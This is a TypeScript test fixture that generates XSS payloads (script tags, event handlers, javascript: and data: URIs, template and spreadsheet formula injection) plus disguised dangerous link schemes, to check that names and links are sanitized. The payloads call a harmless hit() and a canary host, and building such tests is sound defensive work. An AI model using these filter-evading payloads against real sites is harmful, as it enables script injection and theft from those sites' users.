import { NAME_MAX } from '../domain/limits.ts'

/**
 * 1,000 texts that try to run as a script: every way to run one or to reach another machine, written behind everything
 * that could close the context around the text, in every encoding that could be decoded to markup on the way. They call
 * `hit()`, and request from CANARY.
 */

export const CANARY = 'canary.invalid'

/** Each is one line without control characters, so that a name may be any of them. */
const FAMILIES = [
  '<script>hit()</script>',
  `<script src=//${CANARY}/a.js></script>`,
  '<img src=x onerror=hit()>',
  `<img src=//${CANARY}/b.png>`,
  '<svg onload=hit()>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<math><mtext><mglyph><style><img src=x onerror=hit()>',
  '<iframe srcdoc="<script>parent.hit()</script>">',
  '<iframe src=javascript:hit()>',
  '<object data=javascript:hit()>',
  `<embed src=//${CANARY}/c.swf>`,
  '<a href=javascript:hit()>read on</a>',
  '<details open ontoggle=hit()>',
  '<input autofocus onfocus=hit()>',
  '<video><source onerror=hit()></video>',
  '<form action=javascript:hit()><button>go</button></form>',
  `<meta http-equiv=refresh content="0;url=//${CANARY}/d">`,
  `<link rel=stylesheet href=//${CANARY}/e.css>`,
  `<base href=//${CANARY}/>`,
  `<style>@import "//${CANARY}/f.css";</style>`,
  `<p style="background:url(//${CANARY}/g)" onpointerover=hit()>`,
  "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
  '<template><script>hit()</script></template>',
  '{{constructor.constructor("hit()")()}}<%= hit() %>',
  `=HYPERLINK("//${CANARY}/h")+cmd|' /C hit'!A0`,
] as const

const BREAKERS = ['', '">', "'>", '</p>', '</textarea></title>', '</script>', '-->', ']]>'] as const

const SPELLINGS: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/<\/?[a-z]+|on[a-z]+(?==)|javascript/g, mixedCase),
  (text) => text.replace(/[<>"']/g, (sign) => `&#${sign.charCodeAt(0)};`),
  (text) => text.replace(/[<>"'/]/g, (sign) => encodeURIComponent(sign)),
  // One pass of a careless filter makes it whole.
  (text) =>
    text.replace(/script|onerror|onload/g, (word) => `${word.slice(0, 3)}${word}${word.slice(3)}`),
]

function mixedCase(text: string): string {
  return [...text].map((sign, at) => (at % 2 === 0 ? sign.toUpperCase() : sign)).join('')
}

export const PAYLOADS: readonly string[] = FAMILIES.flatMap((family, kind) =>
  BREAKERS.flatMap((breaker, place) =>
    SPELLINGS.map((spell, way) => `${spell(breaker + family)} ${kind}.${place}.${way}`),
  ),
)

/** All of them, as many in each as a name may hold. */
export const NAMES: readonly string[] = packed(PAYLOADS, NAME_MAX)

function packed(texts: readonly string[], most: number): string[] {
  const [first = '', ...rest] = texts
  const lines = [first]
  for (const text of rest) {
    const longer = `${lines.at(-1)} ${text}`
    if (longer.length <= most) lines.splice(-1, 1, longer)
    else lines.push(text)
  }
  return lines
}

/** One of each family, each behind another breaker. */
export const EACH_FAMILY: readonly string[] = FAMILIES.map(
  (family, kind) => `${BREAKERS[kind % BREAKERS.length]}${family}`,
)

const SCHEMES = [
  'javascript:hit()',
  `javascript://${CANARY}/%0ahit()`,
  'data:text/html,<script>hit()</script>',
  'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==',
  'vbscript:hit()',
  'feed:javascript:hit()',
  'view-source:javascript:hit()',
  'jar:javascript:hit()!/',
  'blob:https://larkspur.example/1',
  'filesystem:https://larkspur.example/temporary/a.html',
] as const

const inside = (sign: string) => (address: string) =>
  `${address.slice(0, 4)}${sign}${address.slice(4)}`
const before = (sign: string) => (address: string) => `${sign}${address}`

/** What browsers read as the same address, or careless filters as another one. */
const DISGUISES: ((address: string) => string)[] = [
  (address) => address,
  (address) => address.toUpperCase(),
  mixedCase,
  before(' '),
  before('\t\n'),
  before('\u0001'),
  before('\u00a0'),
  before('\ufeff'),
  before('\\'),
  inside('\t'),
  inside('\n'),
  inside('\r\n'),
  inside('\u0000'),
  inside('\u00ad'),
  inside('\u200b'),
  inside('&Tab;'),
  inside('\u202e'),
  (address) => [...address].map((sign) => `&#${sign.charCodeAt(0)};`).join(''),
  (address) => address.replace(':', '&colon;'),
  (address) => address.replace(/^[a-z]/, (sign) => `%${sign.charCodeAt(0).toString(16)}`),
]

const TAILS = [
  '',
  '//https://larkspur.example/',
  '#https://',
  '?mailto:ada@larkspur.example',
  ' https://',
] as const

/** 1,000 addresses that no link may have. */
export const ADDRESSES: readonly string[] = SCHEMES.flatMap((scheme) =>
  DISGUISES.flatMap((disguise) => TAILS.map((tail) => disguise(scheme) + tail)),
)
